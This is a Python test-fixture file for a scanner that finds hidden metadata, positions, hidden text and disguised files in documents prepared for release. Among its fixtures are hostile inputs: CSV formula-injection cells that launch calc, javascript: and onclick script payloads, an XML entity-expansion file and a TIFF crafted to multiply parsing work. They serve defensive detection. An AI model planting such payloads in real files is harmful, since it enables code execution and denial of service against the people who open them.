    "a photograph packed twice": (
        "picture_position",
        lambda: hand_pdf(
            o7=b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter [/FlateDecode /DCTDecode] /Length %d >>\nstream\n%s\nendstream"
            % (len(zlib.compress(GPS)), zlib.compress(GPS))
        ),
    ),
}

# -- pictures ---------------------------------------------------------------------------------------------------------


def _after_profile() -> bytes:
    raw = b"Exif\0\0" + exif({}, gps=True)
    return b"Raw profile type exif\0\0" + zlib.compress(b"\nexif\n%8d\n" % len(raw) + raw.hex().encode() + b"\n")


def _xp(tag: int, text: str) -> bytes:
    body = text.encode("utf-16-le") + b"\0\0"
    ifd = struct.pack("<H", 1) + struct.pack("<HHII", tag, 1, len(body), 26) + struct.pack("<I", 0)
    return b"II*\0" + struct.pack("<I", 8) + ifd + body


def _tiff_with(tag: int, body: bytes) -> bytes:
    ifd = struct.pack("<H", 1) + struct.pack("<HHII", tag, 7, len(body), 26) + struct.pack("<I", 0)
    return b"II*\0" + struct.pack("<I", 8) + ifd + body


def _ways_to_a_position(count: int) -> bytes:
    """A directory whose every tag leads to one directory of positions of as many tags: the square of them to be walked."""
    there = 8 + 2 + 12 * count + 4
    head = struct.pack("<H", count)
    main = head + struct.pack("<HHII", 0x8825, 4, 1, there) * count + struct.pack("<I", 0)
    return b"II*\0" + struct.pack("<I", 8) + main + head + struct.pack("<HHII", 0x0001, 1, 1, 8) * count


_WHERE = b'<x:xmpmeta><rdf:RDF><rdf:Description exif:GPSLatitude="16,16N"/></rdf:RDF></x:xmpmeta>'
_WEBP = b"RIFF" + struct.pack("<I", 4 + 8 + 10) + b"WEBP" + b"VP8X" + struct.pack("<I", 10) + bytes(10)

PNGS: Group = {
    "a chunk of a program": ("private_data", lambda: png((b"prVW", b"le camp de Fictive"))),
    "layers of a program": ("private_data", lambda: png((b"mkBT", b"le camp" * 9))),
    "Exif written in letters": ("picture_position", lambda: png((b"zTXt", _after_profile()))),
    "a second picture after the first": ("after_end", lambda: png(after=png())),
    "points after their end": ("after_end", lambda: png((b"IDAT", zlib.compress(b"\0\0") + b"le camp de Fictive" * 9))),
}

JPEGS: Group = {
    "a second photograph after the first": ("after_end", lambda: jpeg(after=GPS)),
    "an author as Windows writes it": ("picture_author", lambda: jpeg((0xE1, b"Exif\0\0" + _xp(0x9C9D, WHO)))),
    "a remark as Windows writes it": ("picture_text", lambda: jpeg((0xE1, b"Exif\0\0" + _xp(0x9C9C, "le camp")))),
    "a long remark as Windows writes it": (
        "picture_text",
        lambda: jpeg((0xE1, b"Exif\0\0" + _xp(0x9C9C, "le camp " * 100))),
    ),
    "the notes of the maker": ("camera", lambda: jpeg((0xE1, b"Exif\0\0" + exif({0x927C: b"numero 12345"})))),
    "a position in a second packet": (
        "picture_position",
        lambda: jpeg((0xE1, b"http://ns.adobe.com/xmp/extension/\0" + b"0" * 40 + b' exif:GPSLatitude="16,16N"')),
    ),
    "a smaller picture of Photoshop": (
        "picture_thumbnail",
        lambda: jpeg((0xED, b"Photoshop 3.0\x008BIM\x04\x0c" + bytes(40))),
    ),
    "a segment of a program": ("private_data", lambda: jpeg((0xEB, b"le camp de Fictive"))),
}

OTHER_PICTURES: Group = {
    "tif: a position in XMP": ("picture_position", lambda: _tiff_with(0x02BC, _WHERE)),
    "tif: a position in a long XMP": ("picture_position", lambda: _tiff_with(0x02BC, _WHERE.ljust(2_000))),
    "tif: four thousand ways to one position": ("picture_position", lambda: _ways_to_a_position(4_000)),
    "tif: a remark of IPTC": ("picture_text", lambda: _tiff_with(0x83BB, b"\x1c\x02\x78\0\x07le camp")),
    "webp: bytes after its end": ("after_end", lambda: _WEBP + b"le camp de Fictive" * 9),
    "gif: a second file after its end": (
        "after_end",
        lambda: b"GIF89a\1\0\1\0\0\0\0" + b"\x3b" + b"le camp de Fictive;",
    ),
    "gif: XMP": ("picture_position", lambda: b"GIF89a\1\0\1\0\0\0\0\x21\xff\x0bXMP DataXMP" + _WHERE + b"\0\x3b"),
    "heic: XMP": ("picture_position", lambda: b"\0\0\0\x18ftypheic" + bytes(12) + _WHERE),
}

# -- drawings and pages -----------------------------------------------------------------------------------------------

DRAWINGS: Group = {
    "a telephone": ("telephones", lambda: svg("<text>appeler le +223 70 00 00 00</text>")),
    "a page inside": (
        "svg_script",
        lambda: svg(
            '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://example.org"/></div></foreignObject>'
        ),
    ),
    "an address that is a program": ("svg_script", lambda: svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>')),
    "a style from elsewhere": (
        "loads_elsewhere",
        lambda: svg('<style>@import url("https://example.org/a.css");</style>'),
    ),
    "a style sheet from elsewhere": (
        "loads_elsewhere",
        lambda: b'<?xml-stylesheet href="https://example.org/a.css"?>' + svg(),
    ),
    "a shape from elsewhere": ("loads_elsewhere", lambda: svg('<use href="https://example.org/a.svg#b"/>')),
    "a filling from elsewhere": (
        "loads_elsewhere",
        lambda: svg('<rect style="fill:url(https://example.org/a.svg#b)"/>'),
    ),
    "words hidden by a class": (
        "hidden_shape",
        lambda: svg('<style>.a{display:none}</style><text class="a">le camp</text>'),
    ),
    "words without filling": ("hidden_shape", lambda: svg('<text fill="none">le camp</text>')),
    "words of no size": ("hidden_shape", lambda: svg('<text font-size="0">le camp</text>')),
    "words clear as air": ("hidden_shape", lambda: svg('<text fill-opacity="0">le camp</text>')),
    "white words": ("hidden_shape", lambda: svg('<text fill="#fff">le camp</text>')),
    "words said aloud": ("svg_words", lambda: svg('<g aria-label="Camp de Fictive"/>')),
    "the name of a layer": (
        "svg_names",
        lambda: svg(
            '<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="Camp de Fictive"/>'
        ),
    ),
    "definitions that nothing uses": (
        "hidden_shape",
        lambda: svg("<defs><g><text>le camp de Fictive</text></g></defs>"),
    ),
    "a title behind a long remark": ("svg_words", lambda: b"<!--" + b"x" * 5_000 + b"-->" + svg("<title>Camp</title>")),
    "a packed drawing": ("svg_words", lambda: gzip.compress(svg("<title>Camp de Fictive</title>"), mtime=0)),
}

PAGES: Group = {
    "an author as Word writes it": (
        "page_author",
        lambda: page(
            head=f"<!--[if gte mso 9]><xml><o:DocumentProperties><o:Author>{WHO}</o:Author></o:DocumentProperties></xml><![endif]-->"
        ),
    ),
    "hidden words behind a long remark": (
        "page_hidden",
        lambda: b"<!--" + b"x" * 5_000 + b"-->" + page("<p hidden>le camp</p>"),
    ),
    "an author by property": ("page_author", lambda: page(head=f'<meta property="article:author" content="{WHO}">')),
    "a position": ("picture_position", lambda: page(head='<meta name="geo.position" content="16.2716;-0.0447">')),
    "words hidden by a class": (
        "page_hidden",
        lambda: page('<p class="a">le camp</p>', "<style>.a{display:none}</style>"),
    ),
    "white words": ("page_hidden", lambda: page('<p style="color:#fff">le camp</p>')),
    "words clear as air": ("page_hidden", lambda: page('<p style="opacity:0">le camp</p>')),
    "words beside the page": ("page_hidden", lambda: page('<p style="position:absolute;left:-9999px">le camp</p>')),
    "words in a template": ("page_hidden", lambda: page("<template><p>le camp de Fictive</p></template>")),
    "a hidden field": ("page_hidden", lambda: page('<input type="hidden" value="le camp de Fictive">')),
    "a page in the page": ("embedded_data", lambda: page('<iframe srcdoc="&lt;p&gt;le camp&lt;/p&gt;"></iframe>')),
    "a picture from elsewhere by its style": (
        "loads_elsewhere",
        lambda: page('<p style="background:url(https://example.org/a.png)">x</p>'),
    ),
    "a style sheet from elsewhere in a style": (
        "loads_elsewhere",
        lambda: page(head='<style>@import "https://example.org/a.css";</style>'),
    ),
    "a film from elsewhere": ("loads_elsewhere", lambda: page('<video src="https://example.org/a.mp4"></video>')),
    "pictures from elsewhere for large screens": (
        "loads_elsewhere",
        lambda: page('<img srcset="https://example.org/a.png 2x">'),
    ),
    "a form sent elsewhere": (
        "loads_elsewhere",
        lambda: page('<form action="https://example.org/a"><input name="a"></form>'),
    ),
    "a program in an address": ("page_script", lambda: page('<a href="javascript:alert(1)">x</a>')),
    "a program in a reaction": ("page_script", lambda: page('<p onclick="alert(1)">x</p>')),
    "an address to another page after a while": (
        "loads_elsewhere",
        lambda: page(head='<meta http-equiv="refresh" content="0;url=https://example.org">'),
    ),
}

# -- tables and maps --------------------------------------------------------------------------------------------------


def _rows(*rows: str) -> Callable[[], bytes]:
    return lambda: table(*rows)


TABLES: Group = {
    "a command after a number": ("formula_cells", _rows("region,note", "Gao,-2+3+cmd|' /C calc'!A0", "Mopti,rien")),
    "a command after a mark of order": (
        "formula_cells",
        lambda: "\ufeff=cmd|' /C calc'!A0,note\nGao,rien\nMopti,rien\n".encode(),
    ),
    "a formula between bars": ("formula_cells", _rows("region|note", "Gao|=HYPERLINK(A1)", "Mopti|rien")),
    "a formula after an unseen sign": ("formula_cells", _rows("region,note", "Gao,\u200b=HYPERLINK(A1)", "Mopti,rien")),
    "a formula on a line of its own": ("formula_cells", _rows("region,note", 'Gao,"vu\r=HYPERLINK(A1)"', "Mopti,rien")),
    "a formula of another table program": (
        "formula_cells",
        lambda: b'ID;PWXL;N;E\nC;Y1;X1;K"Gao"\nC;Y1;X2;K0;EEXEC("CALC.EXE")\nE\n',
    ),
    "a formula of one letter": ("formula_cells", _rows("region,note", "Gao,=A1", "Mopti,rien")),
    "a formula of a sum": ("formula_cells", _rows("region,note", "Gao,+1+1", "Mopti,rien")),
    "a formula in two bytes a letter": (
        "formula_cells",
        lambda: "region\tnote\nGao\t=HYPERLINK(A1)\nMopti\trien\n".encode("utf-16"),
    ),
}


def _map(*geometries: object, top: dict[str, object] | None = None, of: dict[str, object] | None = None) -> bytes:
    features = [
        {"type": "Feature", "properties": {"region": "Gao"}, "geometry": one, **(of or {})} for one in geometries
    ]
    return json.dumps({"type": "FeatureCollection", **(top or {}), "features": features}).encode()


_POINT = {"type": "Point", "coordinates": [-0.1, 16.3]}
_FINE = [-0.04472, 16.27167]
_HOUSE = [[[-0.0447, 16.2716], [-0.0446, 16.2716], [-0.0446, 16.2717], [-0.0447, 16.2716]]]

MAPS: Group = {
    "a point in a collection": (
        "points",
        lambda: _map({"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": _FINE}]}),
    ),
    "an outline of a house": ("points", lambda: _map({"type": "Polygon", "coordinates": _HOUSE})),
    "a short road": ("points", lambda: _map({"type": "LineString", "coordinates": _HOUSE[0]})),
    "a feature alone": (
        "points",
        lambda: json.dumps(
            {"type": "Feature", "properties": {"a": 1}, "geometry": {"type": "Point", "coordinates": _FINE}}
        ).encode(),
    ),
    "a point alone": ("points", lambda: json.dumps({"type": "Point", "coordinates": _FINE}).encode()),
    "points in a bounding box": ("points", lambda: _map(_POINT, of={"bbox": [*_FINE, *_FINE]})),
    "a word beside the properties": ("file_remarks", lambda: _map(_POINT, of={"releve": "par Awa"})),
    "a word of a stranger at its top": ("file_remarks", lambda: _map(_POINT, top={"releve": "par Awa"})),
    "a telephone beside the properties": ("telephones", lambda: _map(_POINT, of={"releve": "+223 70 00 00 00"})),
}

LINES: Group = {
    "points of lines": (
        "points",
        lambda: b"\n".join(
            json.dumps(
                {
                    "type": "Feature",
                    "properties": {"a": "b"},
                    "geometry": {"type": "Point", "coordinates": [x, 16.27167]},
                }
            ).encode()
            for x in (-0.04472, -0.0551)
        ),
    ),
}


def _parquet(**told: str) -> bytes:
    out = io.BytesIO()
    pl.DataFrame({"region": ["Gao", "Mopti"], "n": ["120", "340"]}).write_parquet(out, metadata=told)
    return out.getvalue()


PARQUETS: Group = {
    "an author": ("file_remarks", lambda: _parquet(creator=WHO)),
    "a path": ("local_path", lambda: _parquet(source="D:\\Dossiers\\awa\\liste.xlsx")),
}

# -- archives and files under another name ----------------------------------------------------------------------------

_CLEAN = table("Région,Attaques", "Gao,120", "Mopti,340")


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("liste.csv")
        info.size, info.uname = len(_CLEAN), "awa"
        archive.addfile(info, io.BytesIO(_CLEAN))
    return out.getvalue()


def _unlisted() -> bytes:
    """An archive of which one member was taken off the list and left in the file."""
    data = zipped({"a.csv": _CLEAN, "b.csv": table("Nom complet,Région", "Awa Fictive,Gao"), "c.csv": _CLEAN})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
    start = struct.unpack_from("<I", data, data.rfind(b"PK\x05\x06") + 16)[0]
    lengths = [46 + len(info.filename) + len(info.extra) for info in infos]
    kept = data[start : start + lengths[0]] + data[start + sum(lengths[:2]) : start + sum(lengths)]
    return data[:start] + kept + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 2, 2, len(kept), start, 0)


ARCHIVES: Group = {
    "a text of a witness": ("prose", lambda: zipped({"note.txt": SAID, "t.csv": _CLEAN})),
    "a Word file of a witness": ("prose", lambda: zipped({"note.docx": word(run(SAID)), "t.csv": _CLEAN})),
    "a page of a witness": ("prose", lambda: zipped({"note.html": page(f"<p>{SAID}</p>"), "t.csv": _CLEAN})),
    "a PDF of a witness": (
        "prose",
        lambda: zipped(
            {"note.pdf": pdf(line("Aminata Coulibaly \\(+223 70 00 00 00\\) a temoigne.")), "t.csv": _CLEAN}
        ),
    ),
    "a member off its list": ("after_end", _unlisted),
    "a packed archive under another name": (
        "nested_archive",
        lambda: zipped({"a.csv": gzip.compress(_CLEAN, mtime=0), "t.csv": _CLEAN}),
    ),
    "an archive under another name": (
        "nested_archive",
        lambda: zipped({"a.csv": zipped({"b.csv": _CLEAN}), "t.csv": _CLEAN}),
    ),
    "an old archive under another name": (
        "member_not_read",
        lambda: zipped({"a.csv": b"Rar!\x1a\x07\x00" + bytes(99), "t.csv": _CLEAN}),
    ),
}

NOT_READ: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a workbook behind bytes of nobody": ("a.xlsx", lambda: _before(book())),
    "an archive (7z) called csv": ("a.csv", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(range(256)) * 9),
    "an archive (rar) called csv": ("a.csv", lambda: b"Rar!\x1a\x07\x01\0" + bytes(range(256)) * 9),
    "an archive (xz) called csv": ("a.csv", lambda: b"\xfd7zXZ\0" + bytes(range(256)) * 9),
    "an archive (bz2) called csv": ("a.csv", lambda: __import__("bz2").compress(_CLEAN * 9)),
    "an archive (zstd) called csv": ("a.csv", lambda: b"\x28\xb5\x2f\xfd" + bytes(range(256)) * 9),
    "an archive (tar) called csv": ("a.csv", _tar),
    "an archive (tar) in a packed csv": ("a.csv.gz", lambda: gzip.compress(_tar(), mtime=0)),
    "a database called csv": ("a.csv", lambda: b"SQLite format 3\0" + bytes(range(256)) * 9),
    "a database (DuckDB) called csv": ("a.csv", lambda: bytes(8) + b"DUCK" + bytes(range(256)) * 9),
    "a program called csv": ("a.csv", lambda: b"MZ\x90\0" + bytes(range(256)) * 9),
    "a film called json": ("a.json", lambda: b"\0\0\0\x18ftypmp42" + bytes(999)),
    "an archive (7z) called txt": ("a.txt", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(range(256)) * 9),
    "an archive (rar) called md": ("a.md", lambda: b"Rar!\x1a\x07\x01\0" + bytes(range(256)) * 9),
    "a program called log": ("a.log", lambda: b"MZ\x90\0" + bytes(range(256)) * 9),
    "a database without a suffix": ("liste", lambda: b"SQLite format 3\0" + bytes(range(256)) * 9),
    "a text of another program (rtf)": ("a.rtf", lambda: b"{\\rtf1{\\info{\\author Awa Fictive}}{\\v le camp}}"),
    "a text of another program (rtf) called txt": (
        "a.txt",
        lambda: b"{\\rtf1{\\info{\\author Awa Fictive}}{\\v le camp}}",
    ),
    "a text of another program (rtf) called csv": (
        "a.csv",
        lambda: b"{\\rtf1{\\info{\\author Awa Fictive}}{\\v le camp}}",
    ),
    "a Word file in one piece of XML": (
        "a.xml",
        lambda: (
            b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><o:Author>Awa Fictive</o:Author></w:wordDocument>'
        ),
    ),
    "a LibreOffice file in one piece of XML": (
        "a.xml",
        lambda: (
            b'<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="d"><dc:creator>Awa Fictive</dc:creator></office:document>'
        ),
    ),
    "a contact": ("a.vcf", lambda: b"BEGIN:VCARD\nFN:Awa Fictive\nTEL:+22370000000\nEND:VCARD\n"),
    "a message": ("a.eml", lambda: b"From: Awa Fictive <awa@example.org>\n\nBonjour\n"),
    "a drawing with entities": ("a.svg", lambda: laughs("svg", "http://www.w3.org/2000/svg").encode()),
}
"""Files that cannot be looked into, by whatever name: refused, never called clean."""

TEXT_TABLES: Group = {
    "names in a table called txt": (
        "names",
        lambda: table("Nom complet;Région", "Awa Fictive;Gao", "Moussa Inventé;Mopti"),
    ),
    "a case in a table called txt": (
        "identity_numbers",
        lambda: table("Region\tSurvivor code", "Gao\tGA-0001", "Mopti\tGA-0002"),
    ),
}

GROUPS: tuple[tuple[str, Group], ...] = (
    ("xlsx", WORKBOOKS),
    ("docx", DOCUMENTS),
    ("pptx", SLIDES),
    ("odt", OPEN_TEXTS),
    ("ods", OPEN_BOOKS),
    ("pdf", PDFS),
    ("png", PNGS),
    ("jpg", JPEGS),
    ("bin", OTHER_PICTURES),
    ("svg", DRAWINGS),
    ("html", PAGES),
    ("csv", TABLES),
    ("geojson", MAPS),
    ("ndjson", LINES),
    ("parquet", PARQUETS),
    ("zip", ARCHIVES),
    ("txt", TEXT_TABLES),
)

# -- what only looks like a leak --------------------------------------------------------------------------------------

_ON_BLUE = "q 0 0 0.6 rg 60 590 300 30 re f Q\n" + line("Un titre", before="1 1 1 rg")
_HEADING = '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>Un titre</w:t></w:r></w:p>'


def _banner() -> bytes:
    """A heading whose style is white on blue."""
    told = '<w:style w:type="paragraph" w:styleId="a"><w:pPr><w:shd w:val="clear" w:fill="1F4E79"/></w:pPr><w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:style>'
    return led(word(_HEADING), "word/document.xml", "styles", "/word/styles.xml", _STYLES.format(told))


def _same_fallback() -> bytes:
    return word(
        f"<w:p><w:r><mc:AlternateContent {_MC}><mc:Choice Requires='a'><w:t>vu</w:t></mc:Choice>"
        "<mc:Fallback><w:t>vu</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )


def _area() -> dict[str, object]:
    ring = [[-0.0447, 16.2716], [1.2, 16.2716], [1.2, 17.1], [-0.0447, 16.2716]]
    return {"type": "Polygon", "coordinates": [ring]}


HARMLESS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "white words on a blue box": ("a.pdf", lambda: pdf(_ON_BLUE)),
    "words over a thick line": (
        "a.pdf",
        lambda: pdf("q 30 w 0.8 0.9 0.9 RG 60 604 m 360 604 l S Q\n" + line("Un titre")),
    ),
    "words between two boxes": (
        "a.pdf",
        lambda: pdf(line("Un titre") + "q 0 0 0 rg 20 590 40 30 re f 400 590 40 30 re f Q\n"),
    ),
    "a white heading on its own blue": ("a.docx", _banner),
    "a drawing and what stands in for it": ("a.docx", _same_fallback),
    "yellow marks under words": ("a.docx", lambda: word(run("vu", '<w:highlight w:val="yellow"/>'))),
    "a format of thousands": ("a.xlsx", _formatted("#,##0;[Red]-#,##0;&quot;-&quot;")),
    "a format of per cent": ("a.xlsx", _formatted("0.0&quot; %&quot;")),
    "a format of days": ("a.xlsx", _formatted("dd/mm/yyyy")),
    "numbers with a sign": ("a.csv", _rows("region,ecart", "Gao,-9", "Mopti,+4")),
    "a list": ("a.csv", _rows("region,suivi", "Gao,- a verifier", "Mopti,- rien")),
    "a large area": ("a.geojson", lambda: _map(_area())),
    "the names of a map": ("a.geojson", lambda: _map(_POINT, top={"name": "carte", "crs": {"type": "name"}})),
    "an archive of streams": ("a.zip", lambda: _streamed()),
    "a text with semicolons": ("a.txt", lambda: b"Une phrase; puis une autre.\nEt encore; une fin.\n"),
    "a white shape under a mask": ("a.svg", lambda: svg('<rect fill="#fff" width="9" height="9"/>')),
    "white letters on a filled shape": (
        "a.svg",
        lambda: svg('<rect fill="#036" width="9" height="9"/><text fill="#fff">Gao</text>'),
    ),
}
"""Files that are clean, and that a coarse look would take for leaking."""


class _NoSeeking(io.RawIOBase):
    """A way out on which nobody goes back: the sizes of members are told after them."""

    def __init__(self) -> None:
        self.pieces: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data: object) -> int:
        self.pieces.append(bytes(data))  # type: ignore[call-overload]
        return len(self.pieces[-1])


def _streamed() -> bytes:
    out = _NoSeeking()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[call-overload]
        for name in ("a.csv", "b.csv"):
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), _CLEAN)
    return b"".join(out.pieces)
